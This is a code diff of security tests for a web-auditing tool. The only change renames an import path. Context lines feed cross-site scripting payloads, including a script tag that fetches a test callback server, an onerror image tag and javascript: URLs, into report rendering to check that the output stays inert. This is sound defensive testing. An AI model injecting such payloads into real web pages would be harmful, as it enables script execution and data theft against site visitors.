@@ -125,7 +125,7 @@ def test_nothing_executes_when_opened(page_name, outputs, hostile_server, browse
 
 def test_demo_index_is_inert(tmp_path, browser, hostile_server):
     """The demo's index.html (report.render_index) fed hostile entries directly."""
-    from auditor.report import render_index
+    from cardshop_auditor.report import render_index
     cb = hostile_server.url("callback", "/pwned")
     entries = [{"name": f"<script>fetch('{cb}?index')</script>", "label": "<img src=x onerror=alert('label')>",
                 "url": f"javascript:fetch('{cb}?url')", "target": "javascript:alert('target')",
@@ -203,7 +203,7 @@ def test_scan_with_browser_keeps_evidence_names_safe(hostile_server, tmp_path, b
     assert run.returncode in (0, 3), run.stderr[-2000:]
     assert run.wall < 90, run.wall
     report = json.loads((out / "report.json").read_text("utf-8"))
-    from auditor.report import validate_report
+    from cardshop_auditor.report import validate_report
     validate_report(report)
     for item in report.get("evidence") or []:
         target = (out / item["path"]).resolve()
